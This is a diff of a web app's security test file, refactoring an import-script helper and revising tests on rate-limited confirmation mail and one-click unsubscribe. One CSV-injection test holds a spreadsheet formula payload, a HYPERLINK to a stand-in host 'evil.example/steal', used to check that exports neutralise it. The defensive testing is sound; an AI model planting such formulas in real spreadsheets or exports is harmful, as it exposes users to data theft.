@@ -5,7 +5,6 @@
  * through the data download, staff silenced by their peers, sockets outliving their role, sign-ins
  * without a limit, formulas in CSV).
  */
-import { spawn } from 'node:child_process';
 import { createServer, type Server } from 'node:http';
 import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { connect, type Socket as NetSocket } from 'node:net';
@@ -13,7 +12,6 @@ import os from 'node:os';
 import path from 'node:path';
 import bcrypt from 'bcryptjs';
 import * as cheerio from 'cheerio';
-import mongoose from 'mongoose';
 import request from 'supertest';
 import { MailJobModel } from '../../models/mail-job';
 import { PostModel } from '../../models/post';
@@ -24,6 +22,7 @@ import { buildPost, postComment } from '../fixtures/factories';
 import { PASSWORD, buildUser, csrfFrom, signIn } from '../fixtures/users';
 import { buildTestApp, guestForm, type TestApp } from '../setup/app';
 import { listenLive, next, pause, socketClient } from '../setup/live';
+import { runImportScript } from '../setup/import-script';
 
 const ROOT = path.resolve(__dirname, '../..');
 
@@ -161,7 +160,7 @@ describe('mail goes only where its owner asked', () => {
     expect(cheerio.load(refused.text)('#error-email').text()).toMatch(/asked for no mail/);
   });
 
-  it('typing someone else’s address under "Email me replies" sends it one confirmation, and none once confirmed', async () => {
+  it('typing someone else’s address under "Email me replies" sends it one confirmation a day at most, and none once stopped', async () => {
     const post = await buildPost();
     const comment = async () =>
       request(app)
@@ -193,19 +192,23 @@ describe('mail goes only where its owner asked', () => {
     // The mail lets its reader stop all mail to the address, in one click (RFC 8058 too).
     const never = /To never get mail[^\n]*\n\s*\n\s*(https?:\/\/\S+)/.exec(sent[0].text)![1];
     expect(sent[0].raw).toMatch(/List-Unsubscribe-Post: List-Unsubscribe=One-Click/);
-    // The victim confirms; the next day someone types the address again: nothing is sent.
+    // The victim confirms; typed again at once, nothing more is sent to the address that day.
     const confirm = new URL(/https?:\/\/\S+\/notify\/confirm\/\S+/.exec(sent[0].text)![0]).pathname;
     await request(app).post(confirm).expect(200);
-    clock += 25 * 3600000;
     await comment();
     await pause(300);
     expect(await mailsTo('victim@example.org')).toHaveLength(1);
-    // And "never": after it, not even a confirmed address gets a confirmation link again.
+    // A day later the owner (a returning guest) comments again: a link for that comment, one.
+    clock += 25 * 3600000;
+    await comment();
+    await pause(300);
+    expect(await mailsTo('victim@example.org')).toHaveLength(2);
+    // "Never": after it, not even a day later does anything go to the address.
     await request(app).post(new URL(never).pathname).expect(200);
     clock += 25 * 3600000;
     await comment();
     await pause(300);
-    expect(await mailsTo('victim@example.org')).toHaveLength(1);
+    expect(await mailsTo('victim@example.org')).toHaveLength(2);
   });
 
   it('the data download names no post that is not published', async () => {
@@ -374,24 +377,8 @@ describe('every CSV the project writes is safe to open in a spreadsheet', () => 
         '<link>=HYPERLINK("http://evil.example/steal","Open")</link>',
       ),
     );
-    const uri = `${process.env.TEST_MONGODB_URI!.replace(/\/$/, '')}/${mongoose.connection.db!.databaseName}`;
     const reports = path.join(dir, 'reports');
-    await new Promise<void>((resolve, reject) => {
-      const child = spawn(
-        process.execPath,
-        ['--import', 'tsx', 'scripts/import.ts', 'wordpress', file, '--report', reports],
-        {
-          cwd: ROOT,
-          env: { PATH: process.env.PATH ?? '', HOME: os.homedir(), MONGODB_URI: uri, SEED_ON_EMPTY: 'false' },
-        },
-      );
-      let text = '';
-      child.stdout.on('data', (c: Buffer) => (text += c.toString()));
-      child.stderr.on('data', (c: Buffer) => (text += c.toString()));
-      child.on('exit', (code) =>
-        code === 0 ? resolve() : reject(new Error(`import exited ${code}:\n${text}`)),
-      );
-    });
+    await runImportScript(['wordpress', file, '--report', reports]);
     const csv = readFileSync(path.join(reports, 'urls.csv'), 'utf8');
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/steal"",""Open"")"`);
     expect(csv.split('\r\n').some((line) => line.startsWith('=') || line.includes(',='))).toBe(false);
